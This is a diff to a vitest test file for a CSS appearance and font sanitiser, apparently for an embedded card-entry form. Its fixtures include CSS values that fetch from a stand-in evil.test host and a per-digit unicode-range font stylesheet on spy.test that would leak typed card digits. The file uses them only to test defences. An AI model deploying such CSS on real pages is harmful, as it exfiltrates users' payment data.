@@ -1,5 +1,5 @@
-import { describe, expect, test } from 'vitest';
-import { appearanceCss, applyFonts, fontFaceUrl, isFontUrl, isSafeCssValue } from './appearance';
+import { describe, expect, test, vi } from 'vitest';
+import { appearanceCss, applyFonts, coversAscii, fontFaceUrl, isFontUrl, isSafeCssValue, stylesheetFontFaces } from './appearance';
 
 describe('appearanceCss', () => {
   test('maps variables to custom properties on :root', () => {
@@ -25,6 +25,10 @@ describe('appearanceCss', () => {
     ['a descendant selector', { rules: { '.Input .x': { color: 'red' } } }],
     ['an unknown property', { rules: { '.Input': { position: 'fixed' } } }],
     ['a value that loads a URL', { rules: { '.Input': { backgroundColor: 'url(https://evil.test/x)' } } }],
+    // colorBackground lands in `background:`, where image-set() with a bare string fetches an image.
+    ['a variable that loads an image without url()', { variables: { colorBackground: 'image-set("https://evil.test/x" 1x)' } }],
+    ['a prefixed image-set()', { variables: { colorBackground: '-webkit-image-set("https://evil.test/x" 1x)' } }],
+    ['a src() value', { rules: { '.Input': { border: 'src("https://evil.test/x")' } } }],
     ['a value that escapes its declaration', { variables: { colorText: 'red;} body{display:none' } }],
     ['an unknown variable', { variables: { zIndex: '9' } as never }],
   ])('drops %s', (_name, appearance) => {
@@ -40,6 +44,8 @@ describe('isSafeCssValue', () => {
     ['expression(alert(1))', false],
     ['@import "x"', false],
     ['a\\62 c', false],
+    ['image-set("https://evil.test/x" 1x)', false],
+    ['linear-gradient(#fff, #000)', true],
     ['x'.repeat(201), false],
   ])('%s is safe: %s', (value, safe) => {
     expect(isSafeCssValue(value)).toBe(safe);
@@ -56,10 +62,77 @@ describe('fonts', () => {
     expect(fontFaceUrl('url(https://cdn.example/a.woff2); }')).toBeUndefined();
   });
 
-  test('a cssSrc becomes one stylesheet link, an unsafe one none', () => {
-    (window as unknown as { happyDOM: { settings: { disableCSSFileLoading: boolean } } }).happyDOM.settings.disableCSSFileLoading = true;
-    applyFonts([{ cssSrc: 'https://fonts.example/css?family=Inter' }, { cssSrc: 'https://fonts.example/css?family=Inter' }, { cssSrc: 'ftp://x/y.css' }]);
-    const links = [...document.head.querySelectorAll('link[rel="stylesheet"]')].map((link) => link.getAttribute('href'));
-    expect(links).toEqual(['https://fonts.example/css?family=Inter']);
+  test('a stylesheet keeps only its @font-face rules, with https font URLs resolved against it', () => {
+    const css = `/* latin */
+      @font-face { font-family: 'Inter'; font-style: normal; font-weight: 400; font-display: swap;
+        src: url(https://fonts.gstatic.test/inter.woff2) format('woff2'); unicode-range: U+0000-00FF, U+2212; }
+      @font-face { font-family: "Brand"; src: url(brand.woff2) format("woff2"), local(Brand), url(http://cdn.test/x.woff); }
+      @font-face { font-family: Plain; src: url(http://cdn.test/plain.woff2); }
+      @font-face { font-family: 'Evil"'; src: url(https://cdn.test/e.woff2); }
+      .Input { font-family: Inter; background: url(https://evil.test/x) }`;
+    expect(stylesheetFontFaces(css, 'https://fonts.test/css/brand.css')).toEqual([
+      {
+        family: 'Inter',
+        source: 'url("https://fonts.gstatic.test/inter.woff2") format("woff2")',
+        descriptors: { weight: '400', style: 'normal', display: 'swap', unicodeRange: 'U+0000-00FF, U+2212' },
+      },
+      { family: 'Brand', source: 'url("https://fonts.test/css/brand.woff2") format("woff2")', descriptors: {} },
+    ]);
+  });
+
+  test('keeps a long unicode-range (CJK subsets) and leaves out a face whose range is malformed', () => {
+    const longRange = Array.from({ length: 120 }, (_, index) => `U+${(0x4e00 + index * 16).toString(16)}-${(0x4e00 + index * 16 + 9).toString(16)}`).join(', ');
+    const css = `@font-face { font-family: Noto; src: url(https://fonts.test/jp-1.woff2); unicode-range: ${longRange}; }
+      @font-face { font-family: Noto; src: url(https://fonts.test/bad.woff2); unicode-range: U+30 U+3G; }`;
+    expect(stylesheetFontFaces(css, 'https://fonts.test/a.css')).toEqual([
+      { family: 'Noto', source: 'url("https://fonts.test/jp-1.woff2")', descriptors: { unicodeRange: longRange } },
+    ]);
+    expect(longRange.length).toBeGreaterThan(200);
+  });
+
+  test.each([
+    [undefined, true],
+    ['U+0000-00FF, U+0131', true],
+    ['U+34', true],
+    ['U+3?', true],
+    ['U+0400-045F, U+0490-0491', false],
+    ['U+1E00-1FFF', false],
+  ])('unicode-range %s covers a card field character: %s', (range, covers) => {
+    expect(coversAscii(range)).toBe(covers);
+  });
+
+  test("a cssSrc's faces are added without its other rules, and the ones that can draw a digit load at once", async () => {
+    const added: { family: string; source: string; descriptors: FontFaceDescriptors; loaded: boolean }[] = [];
+    class FakeFontFace {
+      entry: (typeof added)[number];
+      constructor(family: string, source: string, descriptors: FontFaceDescriptors) {
+        this.entry = { family, source, descriptors, loaded: false };
+      }
+      load() {
+        this.entry.loaded = true;
+        return Promise.resolve(this);
+      }
+    }
+    vi.stubGlobal('FontFace', FakeFontFace);
+    Object.defineProperty(document, 'fonts', { configurable: true, value: { add: (face: FakeFontFace) => added.push(face.entry) } });
+    // One face per digit: a face loaded only when drawn would tell the font server which digits were typed.
+    const css = ['4', '2'].map((digit) => `@font-face{font-family:Spy;src:url(https://spy.test/${digit}.woff2);unicode-range:U+3${digit}}`).join('') +
+      '@font-face{font-family:Inter;src:url(https://fonts.test/cyrillic.woff2);unicode-range:U+0400-045F}' +
+      '.Input{font-family:Spy}';
+    const fetch = vi.fn(async () => new Response(css));
+    try {
+      applyFonts([{ cssSrc: 'https://fonts.test/css?family=Spy' }, { cssSrc: 'https://fonts.test/css?family=Spy' }, { cssSrc: 'ftp://x/y.css' }], document, fetch);
+      await vi.waitFor(() => expect(added).toHaveLength(3));
+      expect(fetch).toHaveBeenCalledTimes(1);
+      expect(added.map((face) => [face.source, face.loaded])).toEqual([
+        ['url("https://spy.test/4.woff2")', true],
+        ['url("https://spy.test/2.woff2")', true],
+        ['url("https://fonts.test/cyrillic.woff2")', false],
+      ]);
+      expect(document.head.querySelectorAll('link[rel="stylesheet"]')).toHaveLength(0);
+    } finally {
+      vi.unstubAllGlobals();
+      Reflect.deleteProperty(document, 'fonts');
+    }
   });
 });
